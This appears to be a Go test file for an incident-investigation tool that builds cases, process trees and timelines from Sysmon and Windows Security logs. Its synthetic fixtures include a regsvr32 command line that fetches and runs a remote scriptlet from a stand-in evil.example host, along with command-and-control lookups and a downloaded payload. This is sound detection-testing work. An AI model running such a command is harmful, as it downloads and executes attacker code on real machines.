package investigate

import (
	"slices"
	"strings"
	"testing"
	"time"

	"reeve"
)

func TestAnExecutionBecomesACaseWithItsSurroundings(t *testing.T) {
	log := append(day(),
		writes("09:30:00", 150, browser, payload),
		deed(15, "09:30:01", 150, browser, "TargetFilename", payload+":Zone.Identifier", "Contents", "[ZoneTransfer]  ZoneId=3  HostUrl=https://evil.example/payload.exe"),
		deed(7, "10:00:10", 300, tracer, "ImageLoaded", `C:\Users\ann\mfdetours.dll`, "Signed", "false"),
		deed(3, "10:00:20", 400, payload, "DestinationIp", "203.0.113.7", "DestinationPort", "443", "Initiated", "true"),
		deed(22, "10:00:19", 400, payload, "QueryName", "c2.evil.example"),
		writes("10:00:30", 999, `C:\Windows\System32\notepad.exe`, `C:\Users\ann\diary.txt`),
		deed(5, "10:05:00", 300, tracer),
	)
	inv := logs{"Sysmon.evtx": log}.run(t, Options{})
	if got := programs(inv); got != "mftrace.exe" {
		t.Fatalf("cases: %s", got)
	}
	c := caseOf(t, inv, "mftrace.exe")
	if want := "explorer.exe:ancestor cmd.exe<explorer.exe:ancestor mftrace.exe<cmd.exe:subject payload.exe<mftrace.exe:payload"; strings.TrimPrefix(shape(c), "(userinit.exe):ancestor ") != strings.Replace(want, "explorer.exe:", "explorer.exe<userinit.exe:", 1) {
		t.Errorf("tree: %s", shape(c))
	}
	contains(t, "the timeline", says(c),
		"msedge.exe file event "+payload, "create stream hash "+payload+":Zone.Identifier", "cmd.exe started mftrace.exe", "mfdetours.dll", "203.0.113.7:443", "c2.evil.example", "mftrace.exe ended")
	if strings.Contains(says(c), "diary.txt") {
		t.Errorf("what another program did stands in the timeline:\n%s", says(c))
	}
	for _, m := range c.Timeline {
		if inv.Records[m.Ref] == "" {
			t.Errorf("%q cites %v, which is not quoted", m.Says, m.Ref)
		}
	}
	if s := c.Subject; s.Host != "pc.corp.example" || s.PID != 300 || s.User != `CORP\ann` || s.CommandLine != "mftrace.exe "+payload || s.Time.String() != "2024-05-01T10:00:10.0000000Z" {
		t.Errorf("subject: %+v", s)
	}
	if len(c.Answers) != 10 {
		t.Errorf("%d answers", len(c.Answers))
	}
}

// TestNamesOfOneHostAreOne: exports spell a host in several ways; what one of them tells must reach the case.
func TestNamesOfOneHostAreOne(t *testing.T) {
	log := day()
	inv := logs{"a.json": {log[0], log[1], log[2]}, "b.json": {log[3].on("PC"), deed(3, "10:00:20", 400, payload, "DestinationIp", "203.0.113.7", "DestinationPort", "443").on("PC.Corp.Example.")}}.run(t, Options{})
	c := caseOf(t, inv, "mftrace.exe")
	contains(t, "the tree", shape(c), "payload.exe<mftrace.exe:payload")
	contains(t, "the timeline", says(c), "203.0.113.7")
	if len(inv.Evidence.Hosts) != 1 || c.Subject.Host != "pc.corp.example" {
		t.Errorf("hosts %q, the case's is %q", inv.Evidence.Hosts, c.Subject.Host)
	}
}

func TestRecordsWithoutAComputerAreOneNamelessHost(t *testing.T) {
	var log []record
	for _, r := range append(day(), deed(3, "10:00:20", 400, payload, "DestinationIp", "203.0.113.7", "DestinationPort", "443")) {
		log = append(log, r.on(""))
	}
	c := caseOf(t, logs{"a.json": log}.run(t, Options{}), "mftrace.exe")
	contains(t, "the timeline", says(c), "203.0.113.7")
	for _, step := range c.NextSteps {
		if strings.Contains(step, "Isolate  ") || strings.Contains(step, "owner of ,") {
			t.Errorf("a step names no host: %q", step)
		}
	}
}

func TestASubjectIsKnownFromAChildsRecordAlone(t *testing.T) {
	log := day()
	child := log[3].with("ParentCommandLine", "mftrace.exe "+payload, "ParentUser", `CORP\bob`)
	inv := logs{"Sysmon.evtx": {log[0], log[1], child}}.run(t, Options{})
	c := caseOf(t, inv, "mftrace.exe")
	if c.Subject.CommandLine != "mftrace.exe "+payload || c.Subject.User != `CORP\bob` || c.Subject.PID != 300 {
		t.Errorf("subject: %+v", c.Subject)
	}
	contains(t, "the tree", shape(c), "(mftrace.exe):subject", "payload.exe<mftrace.exe:payload")
}

// TestAnEverydayParentIsReadToo: that no record of its own shows a shell must not hide what its child's record says it was told.
func TestAnEverydayParentIsReadToo(t *testing.T) {
	child := starts("10:00:11", 400, `C:\Windows\System32\whoami.exe`, "whoami", 300, `C:\Windows\System32\regsvr32.exe`).with("ParentCommandLine", "regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll")
	inv := logs{"Sysmon.evtx": {child, child.with("ProcessGuid", guid(401), "ProcessId", "401", "UtcTime", "2024-05-01 10:00:12.000")}}.run(t, Options{})
	c := caseOf(t, inv, "regsvr32.exe")
	if !slices.ContainsFunc(c.Opened, func(s string) bool { return strings.Contains(s, "documented abuse") }) || !strings.Contains(c.Subject.CommandLine, "x.sct") {
		t.Errorf("opened because %q, line %q", c.Opened, c.Subject.CommandLine)
	}
}

func TestAProgramIsKnownByItsDeedsAlone(t *testing.T) {
	log := []record{
		deed(3, "10:00:20", 300, tracer, "DestinationIp", "203.0.113.7", "DestinationPort", "443"),
		deed(7, "10:00:10", 300, tracer, "ImageLoaded", `C:\Users\ann\mfdetours.dll`, "Signed", "false"),
	}
	c := caseOf(t, logs{"Sysmon.evtx": log}.run(t, Options{}), "mftrace.exe")
	if !strings.Contains(c.Subject.Time.String(), "T10:00:10.") || c.Occurrences[0].Time != c.Subject.Time || c.Subject.PID != 300 || c.Subject.HasCommandLine {
		t.Errorf("subject: %+v", c.Subject)
	}
	contains(t, "the timeline", says(c), "203.0.113.7:443", "mfdetours.dll")
	for _, step := range c.NextSteps {
		if strings.Contains(step, " at .") {
			t.Errorf("a step names no time: %q", step)
		}
	}
}

func TestTwoRecordersOfOneStartMakeOneCase(t *testing.T) {
	bare := day()[2].without("User").without("LogonId").with("OriginalFileName", "mftrace.exe")
	inv := logs{"Sysmon.evtx": {bare}, "Security.evtx": {audited("10:00:10", 300, tracer, 200, shell)}}.run(t, Options{})
	c := caseOf(t, inv, "mftrace.exe")
	if s := c.Subject; s.GUID.String() == "" || s.User != `CORP\ann` || s.CommandLine != "mftrace.exe "+payload || s.OriginalFileName != "mftrace.exe" {
		t.Errorf("the subject is not completed: %+v", s)
	}
	for _, n := range c.Tree {
		if n.Role == "subject" && files(n.Refs) != "Security.evtx/1 Sysmon.evtx/1" {
			t.Errorf("the subject cites %s", files(n.Refs))
		}
	}
	if len(c.Occurrences) != 1 {
		t.Errorf("%d occurrences", len(c.Occurrences))
	}
}

// TestARecordThatNamesNoProcessIsOneAllTheSame: some exports leave out both pid and GUID.
func TestARecordThatNamesNoProcessIsOneAllTheSame(t *testing.T) {
	r := day()[2].without("ProcessGuid").without("ProcessId").without("ParentProcessGuid").without("ParentProcessId")
	inv := logs{"a.json": {r}}.run(t, Options{})
	c := caseOf(t, inv, "mftrace.exe")
	if c.Subject.CommandLine != "mftrace.exe "+payload {
		t.Errorf("subject: %+v", c.Subject)
	}
	for _, row := range inv.Triage {
		if row.LOLBin == "Mftrace.exe" && (row.Seen != 1 || row.InCases != 1) {
			t.Errorf("triage: %+v", row)
		}
	}
}

func TestRecordsWithoutATimeStillTellTheirStory(t *testing.T) {
	var log []record
	for _, r := range append(day(), deed(3, "10:00:20", 400, payload, "DestinationIp", "203.0.113.7", "DestinationPort", "443"), writes("10:00:20", 150, browser, payload)) {
		r = r.without("UtcTime")
		r.at = time.Time{}
		log = append(log, r)
	}
	c := caseOf(t, logs{"a.json": log}.run(t, Options{}), "mftrace.exe")
	contains(t, "the timeline", says(c), "203.0.113.7", "msedge.exe file event "+payload)
	contains(t, "the tree", shape(c), "payload.exe<mftrace.exe:payload")
}

func TestRepeatedBehaviourIsOneCase(t *testing.T) {
	var log []record
	for i := range 3 {
		log = append(log, starts(clock("10:00:00").AddDate(0, 0, i).Format("2006-01-02 15:04:05"), 300+i, tracer, "mftrace.exe "+payload, 100, desktop))
	}
	c := caseOf(t, logs{"Sysmon.evtx": log}.run(t, Options{}), "mftrace.exe")
	if len(c.Occurrences) != 3 || c.Occurrences[0].PID != 300 || c.Subject.PID != 300 {
		t.Errorf("%d occurrences, the subject is %d", len(c.Occurrences), c.Subject.PID)
	}
}

// TestNothingFoundSaysWhy: each kind of emptiness has its sentence.
func TestNothingFoundSaysWhy(t *testing.T) {
	for _, c := range []struct {
		why  string
		logs logs
		want string
	}{
		{"no file at all", logs{}, "The paths hold no files."},
		{"a log without records", logs{"Sysmon.evtx": nil}, "No event record was found"},
		{"no starts", logs{"Sysmon.evtx": {deed(3, "10:00:00", 1, desktop)}}, "No record of a process start was found."},
		{"nothing of interest", logs{"Sysmon.evtx": {starts("10:00:00", 1, `C:\Windows\notepad.exe`, "notepad", 2, desktop)}}, ""},
	} {
		inv := c.logs.run(t, Options{})
		if len(inv.Cases) != 0 {
			t.Errorf("%s: %d cases", c.why, len(inv.Cases))
		}
		if got := strings.Join(inv.Notes, " "); !strings.Contains(got, c.want) || c.want == "" && got != "" {
			t.Errorf("%s: %q", c.why, got)
		}
	}
}

func TestTheResultSaysWhatWasRead(t *testing.T) {
	inv := logs{"Sysmon.evtx": day()}.run(t, Options{Tool: reeve.Tool{Version: "v0"}})
	if inv.Tool.Version != "v0" || len(inv.Evidence.Files) != 1 || inv.Evidence.Files[0].Records != 4 || inv.Evidence.Files[0].SHA256 == "" {
		t.Errorf("%+v %+v", inv.Tool, inv.Evidence.Files)
	}
	if inv.Evidence.First.String() != "2024-05-01T09:00:00.0000000Z" || inv.Evidence.Last.String() != "2024-05-01T10:00:11.0000000Z" {
		t.Errorf("evidence from %s to %s", inv.Evidence.First, inv.Evidence.Last)
	}
}
